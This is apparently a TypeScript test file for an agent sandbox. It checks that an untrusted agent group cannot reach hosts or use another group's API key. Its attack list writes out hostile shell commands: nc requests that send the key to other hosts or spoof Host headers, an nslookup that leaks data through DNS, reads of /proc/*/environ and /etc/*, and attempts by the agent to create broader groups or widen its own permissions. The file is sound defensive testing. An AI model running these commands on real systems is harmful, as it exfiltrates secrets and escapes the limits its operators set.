/**
 * An untrusted group whose agent attacks what is reached and which keys are used. Each attack's success is what fails; where a tier's rule
 * is the wall the same attack is tried by a group whose tier lacks it, and has to succeed there. What no tier allows is tried there, too.
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer as createWebServer } from 'node:http';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text as readText } from 'node:stream/consumers';
import { after, before, describe, it } from 'node:test';
import type { Group } from '@squash/contract/groups';
import { packModule } from '../support/base-layer.ts';
import { glibcProgram } from '../support/glibc-program.ts';
import { GroupScene } from '../support/group-scene.ts';
import { addressRecord, NameServer } from '../support/name-server.ts';

const placeholder = 'sk-placeholder-of-groups';
const value = 'sk-real-value-of-groups-0123456789';

/** The second has what the shell's programs resolve names by. */
const layers = ['000-base-test', '100-glibc'];

interface Attacked {
  /** What the attack printed. */
  readonly out: string;
  /** What came in at the servers, each request as host, path, authorization, cookie and body, each line of the other protocol, and names that were asked for. */
  readonly came: string;
  readonly groups: readonly Group[];
}

interface Attack {
  readonly name: string;
  /** With `A` for the attacker's name. */
  readonly script: string;
  readonly succeeded: (attacked: Attacked) => boolean;
  /** Where a tier is wide: it is let through, or is held and this is seen in its place; undefined: that tier allows something like it anyway. */
  readonly wide?: 'succeeds' | RegExp;
}

/** `web HOST PATH HEADER [HOST-LINE]`: `nc` has its input until the answer has come. */
const tools = `web() {
  rm -f /tmp/web; mkfifo /tmp/web
  { printf 'GET %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n%s\\r\\n\\r\\n' "$2" "\${4:-$1:WEB}" "$3"; cat /tmp/web; } |
    { nc -w 3 $1 WEB; : > /tmp/web; }
}
`;
const get = (host: string, path: string, { header = 'X-Plain: 1', named = '' } = {}): string =>
  `web ${host} /A/${path} '${header}' '${named}'`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const keyed = `Authorization: Bearer ${placeholder}`;
const came =
  (text: string) =>
  (attacked: Attacked): boolean =>
    attacked.came.includes(text);
const printed =
  (pattern: RegExp) =>
  ({ out }: Attacked): boolean =>
    pattern.test(out);

const attacks: readonly Attack[] = [
  {
    name: 'connects to a host by its name',
    script: get('api.example.com', 'named'),
    succeeded: came('/A/named'),
    wide: 'succeeds',
  },
  {
    name: 'connects to a host that it names within the request',
    script: get('api.example.com', 'hosted', { named: 'other.example.com:WEB' }),
    succeeded: came('/A/hosted'),
    wide: /Rule: host_mismatch/,
  },
  {
    name: 'speaks a protocol of its own',
    script: `(echo A-speaks; sleep 1) | nc -w 3 api.example.com LINES`,
    succeeded: came('line A-speaks'),
    wide: 'succeeds',
  },
  {
    name: 'tells a name server something',
    script: 'nslookup told-by-A.example.com',
    succeeded: came('told-by-A.example.com'),
    wide: 'succeeds',
  },
  {
    name: 'has another’s key in its environment',
    script: 'env',
    succeeded: printed(new RegExp(`^KEEPERS_KEY=${placeholder}$`, 'm')),
    wide: 'succeeds',
  },
  {
    name: 'uses another’s key by its placeholder',
    script: get('api.example.com', 'keyed', { header: keyed }),
    succeeded: came(`/A/keyed Bearer ${value}`),
    wide: 'succeeds',
  },
  {
    name: 'learns that it may use all keys',
    script: 'ask GET /self',
    succeeded: printed(/"secrets":"all"/),
    wide: 'succeeds',
  },
  {
    name: 'lists the keys over its channel',
    script: 'ask GET /secrets; ask GET /v1/secrets; ask GET /self',
    succeeded: printed(/KEEPERS_KEY/),
    wide: /The channel has POST/,
  },
  {
    name: 'has the key told by a server that repeats what it gets',
    script: get('api.example.com', 'repeated', { header: keyed }),
    succeeded: printed(new RegExp(value)),
    wide: /you said Bearer sk-placeholder-of-groups/,
  },
  {
    name: 'has the key put into an address',
    script: get('api.example.com', `address?key=${placeholder}`),
    succeeded: came(`/A/address?key=${value}`),
    wide: /\/A\/address\?key=sk-placeholder/,
  },
  {
    name: 'has the key sent to another host',
    script: get('other.example.com', 'elsewhere', { header: keyed }),
    succeeded: came(`/A/elsewhere Bearer ${value}`),
    wide: /Rule: placeholder_elsewhere/,
  },
  {
    name: 'has the key sent to another host under its own host’s name',
    script: get('other.example.com', 'posing', { header: keyed, named: 'api.example.com:WEB' }),
    succeeded: came(`/A/posing Bearer ${value}`),
    wide: /Rule: host_mismatch/,
  },
  {
    name: 'uses another’s key in a cookie',
    script: get('api.example.com', 'cookie', { header: `Cookie: key=${placeholder}` }),
    succeeded: came(`/A/cookie undefined key=${value}`),
    wide: 'succeeds',
  },
  {
    name: 'uses another’s key as a password',
    script: get('api.example.com', 'basic', { header: `Authorization: Basic ${base64(`u:${placeholder}`)}` }),
    succeeded: came(`/A/basic Basic ${base64(`u:${value}`)}`),
    wide: 'succeeds',
  },
  {
    name: 'has the key put into a body',
    script: `(printf 'POST /A/body HTTP/1.1\\r\\nHost: api.example.com:WEB\\r\\nContent-Length: ${placeholder.length}\\r\\nConnection: close\\r\\n\\r\\n%s' ${placeholder}; sleep 1) | nc -w 3 api.example.com WEB`,
    succeeded: came(`/A/body undefined undefined ${value}`),
    wide: /\/A\/body undefined undefined sk-placeholder/,
  },
  {
    name: 'has the key sent to another port of its host',
    script: `(printf 'GET /A/port HTTP/1.1\\r\\nHost: api.example.com:LINES\\r\\n${keyed}\\r\\n\\r\\n'; sleep 1) | nc -w 3 api.example.com LINES`,
    succeeded: ({ came: all }) =>
      all.split('line ').some((text) => text.includes('/A/port') && text.includes(value)),
    wide: /Rule: placeholder_elsewhere/,
  },
  {
    name: 'says in a header that it is the key’s group',
    script: get('api.example.com', 'claimed', { header: 'X-Squash-Group: keeper' }),
    succeeded: came('/A/claimed'),
  },
  {
    name: 'has its channel dial for it',
    script: `ask GET http://api.example.com:WEB/A/dialled; ask CONNECT api.example.com:WEB`,
    succeeded: ({ came: all, out }) => all.includes('/A/dialled') || / 200 |established/i.test(out),
    wide: /The channel has POST/,
  },
  {
    name: 'makes a group that reaches further',
    script: `act '{"id":"far","action":"group.create","name":"A-far","tier":"untrusted","reach":["*"]}'`,
    succeeded: ({ groups }) => groups.some(({ name, reach }) => name.endsWith('-far') && reach.length > 0),
    wide: /reach\\" is unknown/,
  },
  {
    name: 'makes a group that has the key',
    script: `act '{"id":"rich","action":"group.create","name":"A-rich","tier":"untrusted","secrets":["KEEPERS_KEY"]}'`,
    succeeded: ({ groups }) =>
      groups.some(({ name, secrets }) => name.endsWith('-rich') && secrets.length > 0),
    wide: /secrets\\" is unknown/,
  },
  {
    name: 'widens its own group',
    script: `for method in PATCH PUT POST; do for path in /groups/A /v1/groups/A /self; do
      ask $method $path '{"reach":["*"],"secrets":["KEEPERS_KEY"]}'; done; done; ${get('api.example.com', 'widened')}`,
    succeeded: ({ came: all, groups }) =>
      all.includes('/A/widened') || groups.some(({ name, reach }) => name === 'attacker' && reach.length > 0),
  },
  {
    name: 'finds the key in what it can read',
    script: `cat /proc/*/environ /proc/*/cmdline /etc/* /run/* 2>/dev/null | tr '\\0' '\\n'`,
    succeeded: printed(new RegExp(value)),
    wide: /KEEPERS_KEY=sk-placeholder/,
  },
];

describe('an untrusted group that attacks the network and keys', () => {
  const stack = new AsyncDisposableStack();
  let scene: GroupScene;
  let names: NameServer;
  let web = '';
  let lines = '';
  const seen: string[] = [];
  const caught = new Map<string, Attacked>();
  const freed = new Map<string, Attacked>();

  const words = (text: string): string => text.replaceAll('WEB', web).replaceAll('LINES', lines);

  async function listen(server: Server): Promise<string> {
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    stack.defer(() => void server.close());
    return String((server.address() as AddressInfo).port);
  }

  before(async () => {
    names = stack.use(await NameServer.listen());
    for (const host of ['api', 'other']) names.zone.set(`${host}.example.com`, [addressRecord('127.0.0.1')]);
    web = await listen(
      createWebServer((asked, answer) => {
        const { host, authorization, cookie } = asked.headers;
        void readText(asked).then((body) => {
          seen.push(`${host} ${asked.url} ${authorization} ${cookie} ${body}`);
          answer.end(`you said ${authorization}\n`);
        });
      }),
    );
    lines = await listen(
      createServer((socket) => {
        socket.setEncoding('utf8').on('data', (text: string) => seen.push(`line ${text}`));
        socket.on('error', () => undefined);
      }),
    );
    const directory = mkdtempSync(join(tmpdir(), 'squash-glibc-'));
    stack.defer(() => rmSync(directory, { recursive: true }));
    const module = join(directory, '100-glibc.squashfs');
    await packModule(module, glibcProgram('/usr/bin/getent'));
    const key = { placeholder, value, allowed_hosts: [`api.example.com:${web}`] };
    scene = stack.use(
      await GroupScene.start({
        env: { SQUASH_EGRESS_ALLOW_CIDRS: '127.0.0.0/8', SQUASH_EGRESS_RESOLVERS: names.address },
        modules: { '100-glibc': module },
        files: { 'secrets.json': JSON.stringify({ secrets: { KEEPERS_KEY: key } }) },
      }),
    );
    const open = { own: 'allow', others: 'allow' };
    await scene.call('PUT', '/v1/tiers/open', {
      message: open,
      start: open,
      read: open,
      create: 'allow',
      create_tiers: ['untrusted'],
      reach: ['*'],
      secrets: 'all',
    });
    const wide = { reach: ['*'], secrets: ['KEEPERS_KEY'] };
    await scene.group('keeper', 'open', {
      layers,
      script: words(tools + get('api.example.com', 'kept', { header: keyed })),
      ...wide,
    });
    const kept = await scene.answer('keeper');
    assert.ok(
      seen.join('\n').includes(`/A/kept Bearer ${value}`),
      `else nothing would be kept from anybody: ${kept}`,
    );
    await Promise.all([attack('attacker', 'untrusted'), attack('freed', 'open', wide)]);
  });
  after(() => stack.disposeAsync());

  async function attack(name: string, tier: string, more: object = {}): Promise<void> {
    const tried = attacks.filter(({ wide }) => tier === 'untrusted' || wide !== undefined);
    const own = (text: string): string => words(text).replaceAll(/\bA\b/g, name);
    await scene.group(name, tier, {
      script: words(tools) + tried.map(({ script }, at) => `echo "== ${at}"; ${own(script)} 2>&1\n`).join(''),
      layers,
      ...more,
    });
    const parts = (await scene.answer(name)).split(/^== \d+$/m).slice(1);
    assert.equal(parts.length, tried.length);
    const { items: groups } = await scene.call<{ items: Group[] }>('GET', '/v1/groups');
    const all = [...seen, ...names.asked].join('\n').replaceAll(new RegExp(`\\b${name}\\b`, 'g'), 'A');
    const found = tier === 'untrusted' ? caught : freed;
    for (const [at, { name: attack }] of tried.entries())
      found.set(attack, { out: parts[at] ?? '', came: all, groups });
  }

  for (const { name, succeeded, wide } of attacks) {
    it(`is held where it ${name}`, () => {
      const attacked = caught.get(name);
      assert.ok(attacked !== undefined);
      assert.ok(!succeeded(attacked), `${attacked.out}\n${attacked.came}`);
    });
    if (wide === undefined) continue;
    it(`${wide === 'succeeds' ? wide : 'is held'} where its tier is wide and it ${name}`, () => {
      const attacked = freed.get(name);
      assert.ok(attacked !== undefined);
      const all = `${attacked.out}\n${attacked.came}`;
      assert.equal(succeeded(attacked), wide === 'succeeds', all);
      if (wide !== 'succeeds') assert.match(all, wide);
    });
  }
});
